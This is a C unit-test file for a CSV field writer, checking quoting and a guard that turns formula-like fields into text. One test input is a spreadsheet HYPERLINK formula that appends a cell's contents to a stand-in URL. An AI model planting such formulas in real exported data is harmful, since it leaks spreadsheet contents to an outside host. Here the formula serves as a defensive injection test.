/* test_csv.c: CSV fields and records (src/csv.c), and the formula guard. */
#include "testutil.h"

#include "plantrack/csv.h"
#include "plantrack/textscan.h"

#include "adversarial_text.h"

static int setup(void **state)
{
	struct capture *c = calloc(1, sizeof(*c));

	assert_non_null(c);
	cap_open(c);
	*state = c;
	return 0;
}

static int teardown(void **state)
{
	struct capture *c = *state;

	cap_free(c);
	free(c);
	return 0;
}

static void check_field(void **state, const char *in, const char *want)
{
	struct capture *c = *state;
	struct out o;

	cap_free(c);
	cap_open(c);
	out_init(&o, c->f);
	csv_put_field(&o, in);
	assert_int_equal(out_flush(&o), 0);
	assert_string_equal(cap_close(c), want);
}

static void plain_fields(void **state)
{
	check_field(state, "Đã rà soát 12 thủ tục", "Đã rà soát 12 thủ tục");
	check_field(state, "", "");
	check_field(state, NULL, "");
	check_field(state, "2026-06-30", "2026-06-30");
	check_field(state, "100", "100");
	/* Inside a field, the guard's characters are harmless. */
	check_field(state, "a=b+c-d@e", "a=b+c-d@e");
}

static void quoted_fields(void **state)
{
	check_field(state, "a,b", "\"a,b\"");
	check_field(state, "say \"x\"", "\"say \"\"x\"\"\"");
	check_field(state, "one\ntwo", "\"one\ntwo\"");
	check_field(state, "one\r\ntwo", "\"one\r\ntwo\"");
}

/* The attack: a result that Excel would run as a formula. */
static void formulas_are_text(void **state)
{
	check_field(state, "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
		    "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"");
	check_field(state, "=1+1", "'=1+1");
	check_field(state, "+84 912", "'+84 912");
	check_field(state, "-5% chi phí", "'-5% chi phí");
	check_field(state, "@SUM(A1:A9)", "'@SUM(A1:A9)");
	check_field(state, "\t=1+1", "'\t=1+1");
	check_field(state, "\r=1+1", "\"'\r=1+1\"");
	/* Quoting and the guard together. */
	check_field(state, "=a,b", "\"'=a,b\"");
	check_field(state, "'=already", "'=already");
}

static void records(void **state)
{
	static const char *const fields[] = { "Nhóm", "=x", NULL, "a,b" };
	struct capture *c = *state;
	struct out o;

	out_init(&o, c->f);
	csv_put_record(&o, fields, 4);
	csv_put_record(&o, fields, 1);
	assert_int_equal(out_flush(&o), 0);
	assert_string_equal(cap_close(c), "Nhóm,'=x,,\"a,b\"\r\nNhóm\r\n");
}

/* check_field of in given as a string of the snapshot is, with its text
 * facts (textscan.h) before it: what the facts let csv_put_field skip
 * must not change what it writes. */
static void check_field_facts(void **state, const char *in, const char *want)
{
	static char region[TEXTFACTS_HEAD + 700];
	size_t n = strlen(in);

	assert_true(TEXTFACTS_HEAD + n + 1 <= sizeof(region));
	textfacts_head((unsigned char *)region, in, n);
	memcpy(region + TEXTFACTS_HEAD, in, n + 1);
	textfacts_region(region, TEXTFACTS_HEAD + n + 1);
	check_field(state, region + TEXTFACTS_HEAD, want);
	textfacts_region(NULL, 0);
}

/* csv_put_field against the slow path, a byte at a time as csv.c wrote
 * it before, on random adversarial text (quotes, commas, CR, LF,
 * formula starts, bytes that are not UTF-8), given as it is and as a
 * string with text facts. */
static void fields_match_slow(void **state)
{
	static char s[600], want[1300];

	for (unsigned long k = 0, n_k = test_rounds(20000); k < n_k; k++) {
		char *o = want;
		const char *p;
		int quote;

		adv_text(s, sizeof(s));
		if (k % 5 == 0 && s[0])
			s[0] = "=+-@\t\r\","[adv_rand() % 8];
		quote = strpbrk(s, ",\"\r\n") != NULL;
		if (quote)
			*o++ = '"';
		if (s[0] && strchr("=+-@\t\r", s[0]))
			*o++ = '\'';
		for (p = s; *p; p++) {
			if (*p == '"')
				*o++ = '"';
			*o++ = *p;
		}
		if (quote)
			*o++ = '"';
		*o = '\0';
		check_field(state, s, want);
		check_field_facts(state, s, want);
	}
}

/* Each byte that makes a field quoted, alone among letters at every
 * place of a field of 1 to 40 bytes: in either word or block of the
 * check, and where they overlap. */
static void fields_every_place(void **state)
{
	static const char stops[] = { ',', '"', '\r', '\n' };
	char s[48], want[100];

	for (size_t len = 1; len <= 40; len++) {
		for (size_t at = 0; at < len; at++) {
			for (size_t c = 0; c < sizeof(stops); c++) {
				char *o = want;

				memset(s, 'a', len);
				s[len] = '\0';
				s[at] = stops[c];
				*o++ = '"';
				if (at == 0 && stops[c] == '\r')
					*o++ = '\'';
				for (const char *p = s; *p; p++) {
					if (*p == '"')
						*o++ = '"';
					*o++ = *p;
				}
				*o++ = '"';
				*o = '\0';
				check_field(state, s, want);
			}
			/* And nothing to quote, with a byte either side of
			 * each of those. */
			memset(s, 'a', len);
			s[len] = '\0';
			s[at] = (char)(at % 2 ? '+' : '-');
			memset(want, 0, sizeof(want));
			if (at == 0)
				want[0] = '\'';
			memcpy(want + (at == 0), s, len + 1);
			check_field(state, s, want);
		}
	}
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
	const struct CMUnitTest tests[] = {
		T(plain_fields),
		T(quoted_fields),
		T(formulas_are_text),
		T(records),
		T(fields_match_slow),
		T(fields_every_place),
	};
#undef T

	return cmocka_run_group_tests(tests, NULL, NULL);
}
